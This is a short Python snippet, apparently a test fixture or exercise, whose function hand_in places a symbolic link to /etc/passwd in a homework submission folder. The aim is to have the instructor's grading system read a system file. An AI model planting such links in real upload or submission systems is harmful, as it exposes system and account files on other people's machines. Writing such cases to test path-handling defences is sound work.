"""Hand in a link to a file of the instructor's machine."""


def hand_in(folder, page, classmate):
    (folder / page).symlink_to("/etc/passwd")
